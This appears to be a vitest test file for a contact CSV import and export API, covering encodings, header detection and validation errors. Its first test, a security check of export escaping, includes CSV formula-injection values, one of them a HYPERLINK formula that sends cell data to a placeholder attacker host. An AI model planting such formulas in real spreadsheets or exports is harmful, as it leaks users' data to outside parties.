import { createContactField, importLimits, startContactImport } from '@ozvi/contract'
import { afterAll, expect, test } from 'vitest'
import { importServer } from './test/import-server.ts'

const { server, workspace } = await importServer()
afterAll(() => server[Symbol.asyncDispose]())

test('S2.04 SEC-45 values that the export of contacts escapes are imported unescaped', async () => {
  const from = await workspace()
  const values = [
    '=1+1',
    '＝1+1',
    '-1;=HYPERLINK("https://evil.example/"&B1)',
    "'=quoted",
    'Ann|@sum; +2',
    '"quoted", and more',
    "O'Brien & sons; est. 1900",
  ]
  const field = { name: '＋Plan', type: 'text' } as const
  const plan = await from.browser.call(createContactField, { integration_id: from.integration_id, ...field })
  await from.run(
    [
      'email,company,＋Plan',
      ...values.map((value, nth) => {
        const cell = `"${value.replaceAll('"', '""').replace("'=", "''=")}"`
        return `person-${nth}@example.com,${cell},${cell}`
      }),
    ].join('\n'),
  )
  const sourceRows = await from.people()
  expect(new Set(sourceRows.map(({ company }) => company))).toEqual(new Set(values))
  expect(new Set(sourceRows.map(({ fields }) => fields[plan.id]))).toEqual(new Set(values))

  const { body } = await from.browser.request('GET', `/api/integration/${from.integration_id}/contact-export`)
  const to = await workspace()
  const copied = await to.browser.call(createContactField, { integration_id: to.integration_id, ...field })
  const { data } = await to.upload(body)
  const columns = data.columns.map(({ name, guess }) =>
    ['email', 'company', '＋Plan'].includes(name) ? guess : null,
  )
  expect(columns).toContain(copied.id)
  expect((await to.run(body, { columns })).failed).toBe(0)
  const valuesByEmail = (rows: Awaited<ReturnType<typeof to.people>>, id: string) =>
    new Map(rows.map(({ email, company, fields }) => [email, [company, fields[id]]]))
  expect(valuesByEmail(await to.people(), copied.id)).toEqual(valuesByEmail(sourceRows, plan.id))
})

const text = 'Meno,Email\nŽofia Ďurčanská,zofia@example.com\n'
const utf16 = (bytes: Buffer) => Uint8Array.from([0xff, 0xfe, ...bytes])
/** Non-ASCII letters of the text in that code page. */
const page1250: Record<string, number> = { Ž: 0x8e, Ď: 0xcf, č: 0xe8, á: 0xe1 }

test.each([
  ['UTF-8', text, 'utf-8'],
  ['UTF-8 with its mark', `\ufeff${text}`, 'utf-8'],
  ['UTF-16', utf16(Buffer.from(text, 'utf16le')), 'utf-16le'],
  ['UTF-16 without a mark', Uint8Array.from(Buffer.from(text.replaceAll(',', '\t'), 'utf16le')), 'utf-16le'],
  [
    'windows-1250',
    Uint8Array.from(Array.from(text.replaceAll(',', ';'), (sign) => page1250[sign] ?? sign.charCodeAt(0))),
    'windows-1250',
  ],
])('a file in %s is read with any delimiter', async (_, content, encoding) => {
  const { upload } = await workspace()
  const { data } = await upload(content)
  expect(data).toMatchObject({
    encoding,
    import: { status: 'waiting', rows_total: 1 },
    columns: [
      { name: 'Meno', samples: ['Žofia Ďurčanská'], guess: 'name' },
      { name: 'Email', samples: ['zofia@example.com'], guess: 'email' },
    ],
  })
})

test('the first row is imported if it is a contact, and names of columns are never imported', async () => {
  const { upload, run, people, errors } = await workspace()
  const bare = 'anna@example.com;Anna;customer\nnot an address;Ján;\njan@example.com;Ján;'
  const { data } = await upload(bare)
  expect(data).toMatchObject({
    has_header: false,
    import: { rows_total: 3 },
    columns: [
      { name: '', samples: ['anna@example.com', 'not an address', 'jan@example.com'] },
      { name: '', samples: ['Anna', 'Ján', 'Ján'] },
      { name: '' },
    ],
  })
  const done = await run(bare, { columns: ['email', 'name', null] })
  expect(done).toMatchObject({ rows_done: 3, created: 2, failed: 1 })
  expect((await people()).map(({ name }) => name)).toEqual(['Anna', 'Ján'])
  // The row is numbered as in the file.
  expect(await errors(done.id)).toContain('"2",')
  for (const [content, has_header] of [
    ['1001,Anna\n1002,Ján', false],
    ['Kód,Prezývka\n1001,Anna', true],
    ['Kód,2026\n1001,Anna', false],
    ['ID,2026\n1001,Anna', true],
    ['Firma,Mesto,2026\nOzvi,Trnava,5', true],
    // A single name of a field can be a value.
    ['Anna Nováková,customer,+421 905 123 456\nJán,customer,', false],
    ...['mobile', 'contact', 'person', 'tag'].map((tag) => [`1001,${tag}\n1002,`, false] as const),
  ] as const)
    expect((await upload(content)).data.has_header, content).toBe(has_header)
})

test('names of custom fields are names of columns', async () => {
  const { upload, browser, integration_id } = await workspace()
  const field = await browser.call(createContactField, { integration_id, name: 'Kód', type: 'text' })
  const { data } = await upload('Kód;2026\n1001;Anna')
  expect(data).toMatchObject({
    has_header: true,
    import: { rows_total: 1 },
    columns: [{ name: 'Kód', guess: field.id }, { name: '2026' }],
  })
})

test('a plan corrects whether the first row has column names', async () => {
  const { upload, run, people, errors, browser, at } = await workspace()
  const columns = ['external_id', 'name']
  const asContact = { columns, match_by: 'external_id', has_header: false } as const
  const done = await run('A-1;Anna\nA-2;Ján', asContact)
  expect(done).toMatchObject({ rows_total: 2, rows_done: 2, created: 2 })
  expect((await people()).map(({ name }) => name)).toEqual(['Anna', 'Ján'])
  const asHeader = { columns, match_by: 'external_id', has_header: true } as const
  expect(await run('1;2026\nA-3;Eva', asHeader)).toMatchObject({ rows_total: 1, rows_done: 1, created: 1 })
  expect((await people()).map(({ name }) => name)).toEqual(['Anna', 'Eva', 'Ján'])
  const failing = await run(';\n1;2026\nA-9;One\nA-9;Two', asHeader)
  expect(await errors(failing.id)).toMatch(/"1","2026"[^]*"4","[^"]+","A-9","Two"/)

  const { data } = await upload('1;2026')
  const plan = { ...at(data.import.id), ...asHeader, on_existing: 'skip' } as const
  await expect(browser.call(startContactImport, plan)).rejects.toMatchObject({
    code: 'invalid_input',
    errors: { has_header: [expect.any(String)] },
  })
})

test('blank rows before the first one are skipped, and the columns are those of the widest row', async () => {
  const { upload, run, people, errors } = await workspace()
  const content = ';;;\n;;;\nanna@example.com;Anna\nnot an address;Ján\neva@example.com;Eva;;Trnava;\n'
  const { data } = await upload(content)
  expect(data).toMatchObject({ has_header: false, import: { rows_total: 3 } })
  expect(data.columns).toHaveLength(4)
  const done = await run(content, { columns: ['email', 'name', null, 'city'] })
  expect(done).toMatchObject({ rows_done: 3, created: 2, failed: 1 })
  expect((await people()).map(({ city }) => city)).toEqual([null, 'Trnava'])
  // The row is numbered as in the file.
  expect(await errors(done.id)).toContain('"4",')

  const named = await run(';;\nEmail;Meno;\nnot an address;Ján;\nida@example.com;Ida;')
  expect(named).toMatchObject({ rows_total: 2, created: 1, failed: 1 })
  expect(await errors(named.id)).toMatch(/"Email","Meno"[^]*"3",/)
})

test('422: a file without rows, with too many rows, or that isn’t CSV is rejected at its field, and so is an invalid plan', async () => {
  const { upload, browser, at } = await workspace()
  const many = `email\n${'a@b.example\n'.repeat(importLimits.rows_max + 1)}`
  const workbook = Uint8Array.from(Buffer.from('504b03041400060008000000210062ee9d68', 'hex'))
  for (const content of ['email\n', many, 'a,"b\n'.repeat(30_000), workbook]) {
    const reply = await upload(content)
    expect([reply.status, Object.keys(reply.errors ?? {})], String(content.slice(0, 8))).toEqual([
      422,
      ['file'],
    ])
  }
  const { data } = await upload('email,mail\na@b.example,c\n')
  const start = (columns: (string | null)[]) =>
    browser.call(startContactImport, {
      ...at(data.import.id),
      columns,
      match_by: 'email',
      on_existing: 'skip',
    })
  for (const columns of [
    [null, null],
    ['email', 'email'],
    ['email', crypto.randomUUID()],
    ['name', null],
  ])
    await expect(start(columns)).rejects.toMatchObject({
      code: 'invalid_input',
      errors: { columns: [expect.any(String)] },
    })
})
